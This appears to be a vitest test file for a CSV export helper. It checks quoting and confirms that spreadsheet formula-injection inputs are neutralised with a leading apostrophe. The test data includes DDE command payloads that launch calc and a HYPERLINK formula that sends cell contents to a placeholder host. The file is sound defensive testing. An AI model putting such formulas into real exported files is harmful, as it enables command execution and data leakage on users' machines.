import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { csvCell, csvRow } from "./csv";

describe("csv", () => {
  it("quotes only what needs it, doubling quotes", () => {
    expect(csvCell("plain")).toBe("plain");
    expect(csvCell('say "hi", then\nleave')).toBe('"say ""hi"", then\nleave"');
    expect(csvCell(null)).toBe("");
    expect(csvCell(-12.5)).toBe("-12.5");
  });

  it.each(["=1+1", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "+A1", '=HYPERLINK("http://x?"&A1,"y")'])(
    "defuses the formula %j with an apostrophe",
    (v) => {
      expect(csvCell(v).replace(/^"/, "")).toMatch(/^'/);
    },
  );

  it.each(["+15550100", "+1 (555) 010-0200", "-2"])("leaves the plain number %j as it is (no formula can hide in it)", (v) => {
    expect(csvCell(v)).toBe(v);
  });

  it("round-trips through a CSV parser", () => {
    const values = ["a,b", 'q"uote', "multi\r\nline", "=cmd|' /C calc'!A0", "", null, 3];
    const [row] = parse(csvRow(values), { relax_column_count: false }) as string[][];
    expect(row).toEqual(["a,b", 'q"uote', "multi\r\nline", "'=cmd|' /C calc'!A0", "", "", "3"]);
  });
});
